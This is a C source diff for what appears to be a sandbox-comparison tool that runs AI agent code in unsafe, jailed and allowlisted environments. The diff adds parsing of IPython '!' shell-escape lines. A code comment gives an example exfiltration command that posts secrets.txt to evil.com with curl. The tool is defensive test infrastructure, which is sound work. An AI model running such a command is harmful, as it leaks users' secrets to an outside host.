@@ -61,6 +61,7 @@
 #include "state.h"
 #include "trace.h"
 #include "strlist.h"
+#include "textesc.h"
 #include "world.h"
 #include "xalloc.h"
 
@@ -921,6 +922,8 @@ struct step {
 					   code which had done harm first */
 	const char		*essay;	/* the deciding rule's phrase in the
 					   essay's words (allowlist.h), or NULL */
+	const char		*src;	/* what a world compiles: the input,
+					   or a shell line's Python form */
 };
 
 static void
@@ -1204,7 +1207,7 @@ run_code(struct step *st, const struct node *root)
 	if (st->world != NULL) {
 		/* What the policy admitted runs in CPython, in the sandbox's
 		 * own world: a bypass has its real effect there. */
-		run_world(st, st->r->input, root, NULL, NULL);
+		run_world(st, st->src, root, NULL, NULL);
 		mark_bypass(st);
 		return;
 	}
@@ -1477,7 +1480,7 @@ run_jail_world(struct step *st, const struct node *root,
 		    refused));
 		return;
 	}
-	run_world(st, st->r->input, root, e, call);
+	run_world(st, st->src, root, e, call);
 	told_inside(st, st->ev.effects.items, st->ev.effects.n,
 	    w->kind == WORLD_KIND_GVISOR);
 }
@@ -1882,10 +1885,153 @@ meter_path(struct session *s, struct arena *ea, size_t records,
 	arena_set_meter(pa, m);
 }
 
+/* ---- shell lines ---- */
+
+/*
+ * IPython's shell escape: an input whose first character but blanks is
+ * '!' -- `!ls`, `!curl -d @secrets.txt https://evil.com` -- is the agent's
+ * shell command, run_shell (cmd_run_shell.c), on every path, as
+ * run_shell('ls') typed as Python is: the real /bin/sh in the unsafe
+ * world, the jail's seccomp refusing its execve, the sandbox's command
+ * allowlist refusing the command.  It is recognised here, before Python's
+ * syntax is asked, for every caller of session_run (the UI, -e, scenarios,
+ * --serve, --mcp, --agent).  The command line is the rest of the input
+ * after the '!' (IPython's '!!' is taken as '!') and its blanks, its
+ * trailing white space dropped; it goes to sh as it is, newlines and all.
+ *
+ * The tree is run_shell('...')'s, parsed from that Python form, with its
+ * spans moved onto the line as typed: the call is the whole line, the
+ * name run_shell the '!', the string the command line.  So the AST pane
+ * shows the call, and the layers that quote or search the input (the
+ * blocklist's words, a node's span) read what was typed.  A world
+ * compiles the Python form (struct line's src).  A '!' with no command
+ * is a syntax error on every path, decided here: no world is asked.
+ */
+struct line {
+	const char	*src;		/* what a world compiles */
+	size_t		 len;
+	bool		 shell;		/* a '!' line */
+};
+
+/* Where a shell line's '!' is, or len when the input is not one. */
+static size_t
+shell_bang(const char *input, size_t len)
+{
+	size_t i = 0;
+
+	while (i < len && (input[i] == ' ' || input[i] == '\t'))
+		i++;
+	return i < len && input[i] == '!' ? i : len;
+}
+
+static bool
+is_space(char c)
+{
+	return c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
+	    c == '\f' || c == '\v';
+}
+
+/*
+ * run_shell('...') of the command line s[0, n), as a literal that gives
+ * sh the bytes typed: escaped as repr() escapes (textesc.h), but for a
+ * byte that is not UTF-8, written as os.fsencode() takes it back to that
+ * byte (PEP 383's surrogate escape, \udcNN), not as the character \xNN.
+ */
+static void
+shell_literal(struct sbuf *b, const char *s, size_t n)
+{
+	char esc[TEXTESC_MAX];
+	size_t i, k;
+
+	sbuf_adds(b, "run_shell('");
+	for (i = 0; i < n; i += k) {
+		k = textesc_next(s + i, n - i, '\'', esc);
+		if (k == 1 && (unsigned char)s[i] >= 0x80)
+			sbuf_addf(b, "\\udc%02x", (unsigned char)s[i]);
+		else if (esc[0] != '\0')
+			sbuf_adds(b, esc);
+		else
+			sbuf_add(b, s + i, k);
+	}
+	sbuf_adds(b, "')");
+}
+
+/* Move the call's spans onto the typed line (see above). */
+static void
+shell_spans(struct node *root, uint32_t bang, uint32_t bangs,
+    uint32_t cmd, uint32_t end)
+{
+	struct node *call = root->u.expression.body;
+
+	root->start = call->start = bang;
+	root->end = call->end = end;
+	call->u.call.func->start = bang;
+	call->u.call.func->end = bang + bangs;
+	if (call->u.call.args.len == 1) {
+		call->u.call.args.items[0]->start = cmd;
+		call->u.call.args.items[0]->end = end;
+	}
+}
+
+/*
+ * The input's tree (pr, in a) and what a world compiles (ln): for a
+ * shell line, run_shell's call, else the input as it is.
+ */
+static void
+parse_line(struct arena *a, const char *input, size_t len, struct line *ln,
+    struct parse_result *pr)
+{
+	size_t bang = shell_bang(input, len), bangs = 1, cmd, end = len;
+	struct sbuf b = SBUF_INIT;
+
+	*ln = (struct line){ .src = input, .len = len, .shell = false };
+	if (bang == len || len > UINT32_MAX) {
+		parse_input(a, input, len, pr);
+		return;
+	}
+	ln->shell = true;
+	if (bang + 1 < len && input[bang + 1] == '!')
+		bangs = 2;
+	for (cmd = bang + bangs; cmd < len && is_space(input[cmd]); cmd++)
+		;
+	while (end > cmd && is_space(input[end - 1]))
+		end--;
+	shell_literal(&b, input + cmd, end - cmd);
+	ln->src = arena_strndup(a, b.data, b.len);
+	ln->len = b.len;
+	sbuf_free(&b);
+	if (cmd == end) {
+		memset(pr, 0, sizeof *pr);
+		pr->status = PARSE_ERROR;
+		pr->error.cls = PYEXC_SyntaxError;
+		pr->error.msg = "'!' runs a shell command: write one after it, "
+		    "e.g. !ls";
+		pr->error.start = (uint32_t)bang;
+		pr->error.end = (uint32_t)len;
+		pr->error.line = 1;
+		pr->error.column = (uint32_t)bang + 1;
+		return;
+	}
+	parse_input(a, ln->src, ln->len, pr);
+	if (pr->status == PARSE_OK && pr->root->kind == NODE_EXPRESSION &&
+	    pr->root->u.expression.body->kind == NODE_CALL)
+		shell_spans(pr->root, (uint32_t)bang, (uint32_t)bangs,
+		    (uint32_t)cmd, (uint32_t)end);
+	else {		/* (the form always parses: a cap, if anything) */
+		pr->status = PARSE_ERROR;
+		pr->error.cls = PYEXC_SyntaxError;
+		pr->error.msg = "this shell line could not be read";
+		pr->error.start = (uint32_t)bang;
+		pr->error.end = (uint32_t)len;
+		pr->error.line = 1;
+		pr->error.column = (uint32_t)bang + 1;
+	}
+}
+
 static void
 run_path(struct session *s, enum path_id p, const char *input, size_t len,
-    const struct parse_result *pr, const char *label, struct arena *a,
-    struct arena *pa, struct meter *mem, struct record *r)
+    const struct parse_result *pr, const struct line *ln, const char *label,
+    struct arena *a, struct arena *pa, struct meter *mem, struct record *r)
 {
 	struct step st = { .s = s, .path = p, .ps = &s->paths[p], .r = r,
 	    .a = a };
@@ -1909,6 +2055,7 @@ run_path(struct session *s, enum path_id p, const char *input, size_t len,
 	    WORLD_ENGINE_CPYTHON : WORLD_ENGINE_MODEL);
 	r->path = p;
 	r->input = arena_strndup(a, input, len);
+	st.src = ln->shell ? arena_strdup(a, ln->src) : r->input;
 	r->kind = KIND_CODE;
 	r->source = "user";
 	eval_init(&st.ev, pa, p);
@@ -1930,6 +2077,7 @@ run_path(struct session *s, enum path_id p, const char *input, size_t len,
 	/* A world that compiles the input itself (CPython) is the judge of
 	 * its syntax: what our parser does not know still runs there. */
 	if (pr->status != PARSE_OK && (w == NULL || !w->ops->compiles ||
+	    ln->shell ||				/* (a '!' and nothing) */
 	    p == PATH_SANDBOX ||			/* (a filter in front */
 	    (record_path_is_jail(p) && s->jail_filter))) { /* judges the
 							   syntax) */
@@ -1965,7 +2113,7 @@ run_path(struct session *s, enum path_id p, const char *input, size_t len,
 		return;
 	}
 	if (w != NULL && st.world == NULL)
-		run_world(&st, r->input, pr->root, e, call);
+		run_world(&st, st.src, pr->root, e, call);
 	else if (e != NULL)
 		run_command(&st, e, call);
 	else
@@ -2069,7 +2217,9 @@ input_tree(struct arena *a, const struct parse_result *pr)
 bool
 session_input_incomplete(const char *input, size_t len)
 {
-	return parse_is_incomplete(input, len);
+	/* (sh, not Python, reads the rest of a shell line) */
+	return shell_bang(input, len) == len &&
+	    parse_is_incomplete(input, len);
 }
 
 /*
@@ -2084,7 +2234,7 @@ session_input_incomplete(const char *input, size_t len)
  * it is not started ahead.  Returns the paths started.
  */
 static unsigned
-start_worlds(struct session *s, const char *input, size_t len,
+start_worlds(struct session *s, const struct line *ln,
     const struct parse_result *pr, unsigned mask, struct arena *a)
 {
 	const struct cmd_entry *e = NULL;
@@ -2105,9 +2255,11 @@ start_worlds(struct session *s, const char *input, size_t len,
 		    (record_path_is_jail((enum path_id)p) && s->jail_filter))
 			continue;
 		if ((w = ready_world(s, ps, a, &refused)) == NULL ||
-		    (pr->status != PARSE_OK && !w->ops->compiles))
+		    (pr->status != PARSE_OK && (!w->ops->compiles ||
+		    ln->shell)))
 			continue;
-		in = world_input_of(s, ps, arena_strndup(a, input, len), e, a);
+		in = world_input_of(s, ps, arena_strndup(a, ln->src, ln->len),
+		    e, a);
 		if (world_start(w, &in))
 			started |= PATH_BIT(p);
 	}
@@ -2119,6 +2271,7 @@ session_run(struct session *s, const char *input, size_t len,
     const char *label, unsigned mask, struct arena *a, struct record **out)
 {
 	struct parse_result pr;
+	struct line ln;
 	struct record *recs = arena_array(a, PATH__COUNT, sizeof *recs);
 	struct arena *ea = arena_new();
 	unsigned long gens[PATH__COUNT];
@@ -2131,10 +2284,10 @@ session_run(struct session *s, const char *input, size_t len,
 		mask = s->enabled;
 	s->steps++;
 	generations(s, gens);
-	parse_input(ea, input, len, &pr);
+	parse_line(ea, input, len, &ln, &pr);
 	big = arena_used(ea) > (8u << 20);
 	world_interrupt_clear();
-	started = start_worlds(s, input, len, &pr, mask, a);
+	started = start_worlds(s, &ln, &pr, mask, a);
 	if (s->progress != NULL)
 		for (p = 0; p < PATH__COUNT; p++)
 			if (started & PATH_BIT(p))
@@ -2153,7 +2306,7 @@ session_run(struct session *s, const char *input, size_t len,
 		meter_path(s, ea, arena_held(a) - held_before, pa, &mem);
 		if (s->progress != NULL && !(started & PATH_BIT(p)))
 			s->progress(s->progress_ctx, (enum path_id)p, false);
-		run_path(s, (enum path_id)p, input, len, &pr, label, a, pa,
+		run_path(s, (enum path_id)p, input, len, &pr, &ln, label, a, pa,
 		    &mem, &recs[n++]);
 		if (s->progress != NULL)
 			s->progress(s->progress_ctx, (enum path_id)p, true);
